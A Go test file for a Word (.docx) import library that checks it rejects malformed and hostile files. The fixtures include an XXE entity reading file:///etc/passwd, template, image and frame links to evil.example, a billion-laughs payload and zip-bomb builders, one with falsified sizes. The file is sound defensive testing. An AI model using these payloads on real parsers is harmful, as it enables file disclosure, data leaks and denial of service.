package docx_test

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"strings"
	"testing"

	"chancery/docx"
	"chancery/drafts"
	"chancery/internal/corpus"
)

func sampleDocx(tb testing.TB) []byte {
	tb.Helper()
	w := docx.New()
	return exportText(tb, w, testDocument("en"), version(tb, 1, corpus.Must(tb, "sample-draft-road-map.txt")))
}

// zipOf builds a zip file of the given entries, stored or deflated.
func zipOf(tb testing.TB, deflate bool, entries ...[2]string) []byte {
	tb.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		m := zip.Store
		if deflate {
			m = zip.Deflate
		}
		w, err := zw.CreateHeader(&zip.FileHeader{Name: e[0], Method: m})
		if err != nil {
			tb.Fatal(err)
		}
		w.Write([]byte(e[1]))
	}
	zw.Close()
	return buf.Bytes()
}

// TestBadInput: every file Chancery must refuse is EINVALID with a message
// naming the problem; nothing panics and nothing is fetched.
func TestBadInput(t *testing.T) {
	good := sampleDocx(t)
	settingsRels := `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
		`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`
	docRels := part(t, good, "word/_rels/document.xml.rels")
	docXML := part(t, good, "word/document.xml")
	ct := part(t, good, "[Content_Types].xml")
	bomb := func() []byte {
		return zipOf(t, true, [2]string{"[Content_Types].xml", ct}, [2]string{"word/document.xml", strings.Repeat("\x00", 30<<20)})
	}
	// A bomb whose directory claims 100 bytes for 30 MiB of zeros.
	liar := func() []byte {
		data := bomb()
		at := bytes.LastIndex(data, []byte("PK\x01\x02")) // the last central directory entry: document.xml
		binary.LittleEndian.PutUint32(data[at+24:], 100)
		return data
	}
	many := func() []byte {
		var es [][2]string
		for i := 0; i < 1100; i++ {
			es = append(es, [2]string{"media/x" + strings.Repeat("a", i%7) + string(rune('a'+i%26)) + "/" + strings.Repeat("b", i%13) + ".bin", ""})
		}
		return zipOf(t, false, es...)
	}
	tests := []struct {
		name string
		data []byte
		w    *docx.Word
		want string
	}{
		{"empty", nil, nil, "empty"},
		{"not a zip", []byte("Hello, this is plain text, not Word."), nil, "not a zip"},
		{"old .doc", append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 600)...), nil, "old-style .doc"},
		{"zip without content types", zipOf(t, true, [2]string{"readme.txt", "hello"}), nil, "without [Content_Types].xml"},
		{"spreadsheet", rewrite(t, good, map[string]string{"[Content_Types].xml": strings.ReplaceAll(ct, "wordprocessingml.document.main", "spreadsheetml.sheet.main")}, nil), nil, "another kind of Office file"},
		{"no main document", rewrite(t, good, map[string]string{"word/document.xml": ""}, nil), nil, "main document"},
		{"macro project", rewrite(t, good, nil, map[string]string{"word/vbaProject.bin": "\x00VBA"}), nil, "macro-enabled"},
		{"docm content type", rewrite(t, good, map[string]string{"[Content_Types].xml": strings.ReplaceAll(ct, "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")}, nil), nil, "macro-enabled"},
		{"linked image", rewrite(t, good, map[string]string{"word/_rels/document.xml.rels": strings.Replace(docRels, "</Relationships>",
			`<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://evil.example/x.png" TargetMode="External"/></Relationships>`, 1)}, nil), nil, "picture linked from outside it"},
		{"linked image beside a template", rewrite(t, good, map[string]string{"word/_rels/document.xml.rels": strings.Replace(docRels, "</Relationships>",
			`<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///C:\pics\x.png" TargetMode="External"/></Relationships>`, 1)},
			map[string]string{"word/_rels/settings.xml.rels": settingsRels}), nil, "picture linked from outside it"},
		{"OLE link", rewrite(t, good, map[string]string{"word/_rels/document.xml.rels": strings.Replace(docRels, "</Relationships>",
			`<Relationship Id="rIdO" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="file:///C:\budget.xlsx" TargetMode="External"/></Relationships>`, 1)}, nil), nil, "object linked to another file (an OLE link): break the link"},
		{"linked frame", rewrite(t, good, map[string]string{"word/_rels/document.xml.rels": strings.Replace(docRels, "</Relationships>",
			`<Relationship Id="rIdF" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/frame" Target="http://evil.example/" TargetMode="External"/></Relationships>`, 1)}, nil), nil, "linked frame"},
		{"macros in a template-made file", rewrite(t, good, nil, map[string]string{"word/vbaProject.bin": "\x00VBA", "word/_rels/settings.xml.rels": settingsRels}), nil, "macro-enabled"},
		{"doctype entity", rewrite(t, good, map[string]string{"word/document.xml": strings.Replace(docXML, "<w:document", `<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document`, 1)}, nil), nil, "entity declarations"},
		{"billion laughs", rewrite(t, good, map[string]string{"word/styles.xml": `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><w:styles>&lol2;</w:styles>`}, nil), nil, "entity declarations"},
		{"undeclared entity", rewrite(t, good, map[string]string{"word/document.xml": strings.Replace(docXML, "Institutional", "&xxe;", 1)}, nil), nil, "not well-formed XML"},
		{"zip bomb", bomb(), nil, "zip bomb"},
		{"zip bomb with lying sizes", liar(), nil, "more than the 100 bytes its header says"},
		{"too many entries", many(), nil, "entries"},
		{"over the size limit", good, docx.New(docx.WithLimits(int64(len(good)-1), 0, 0)), "the limit is"},
		{"over the decompressed limit", good, docx.New(docx.WithLimits(0, 4000, 0)), "zip bomb"},
		{"deep nesting", rewrite(t, good, map[string]string{"word/document.xml": strings.Replace(docXML, "<w:body>", "<w:body>"+strings.Repeat("<w:sdt>", 300)+strings.Repeat("</w:sdt>", 300), 1)}, nil), nil, "deep"},
		{"no text", rewrite(t, good, map[string]string{"word/document.xml": `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>`}, nil), nil, "no text"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := tt.w
			if w == nil {
				w = docx.New()
			}
			_, err := w.ReadWord(tt.data)
			if err == nil {
				t.Fatal("accepted")
			}
			if got := drafts.ErrorCode(err); got != drafts.EINVALID {
				t.Errorf("code %q, want %q (%v)", got, drafts.EINVALID, err)
			}
			if msg := drafts.ErrorMessage(err); !strings.Contains(msg, tt.want) {
				t.Errorf("message %q does not say %q", msg, tt.want)
			}
		})
	}
}

// TestHyperlinksAllowed: a hyperlink is the one external relationship a
// text may hold; it is kept as a relationship and never followed.
func TestHyperlinksAllowed(t *testing.T) {
	good := sampleDocx(t)
	docRels := part(t, good, "word/_rels/document.xml.rels")
	data := rewrite(t, good, map[string]string{"word/_rels/document.xml.rels": strings.Replace(docRels, "</Relationships>",
		`<Relationship Id="rIdH" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.s-cica.org/" TargetMode="External"/></Relationships>`, 1)}, nil)
	if _, err := docx.New().ReadWord(data); err != nil {
		t.Fatal(err)
	}
}

// FuzzReadWord: no input panics, and what is accepted is a valid text.
func FuzzReadWord(f *testing.F) {
	f.Add(sampleDocx(f))
	from, to, diff := changesFixture(f)
	var buf bytes.Buffer
	if err := docx.New().ChangesWord(&buf, testDocument("en"), from, to, diff); err != nil {
		f.Fatal(err)
	}
	f.Add(buf.Bytes())
	f.Add([]byte("PK\x03\x04"))
	f.Add([]byte{})
	w := docx.New(docx.WithLimits(1<<20, 4<<20, 200))
	f.Fuzz(func(t *testing.T, data []byte) {
		wf, err := w.ReadWord(data)
		if err != nil {
			if drafts.ErrorCode(err) != drafts.EINVALID {
				t.Fatalf("code %q: %v", drafts.ErrorCode(err), err)
			}
			return
		}
		if _, err := drafts.ParseText(wf.Text(), drafts.Limits{}); err != nil {
			t.Fatalf("accepted text does not parse: %v", err)
		}
		for _, p := range wf.Edited {
			if p.Origin >= len(wf.Original) {
				t.Fatalf("origin %d out of %d", p.Origin, len(wf.Original))
			}
		}
	})
}
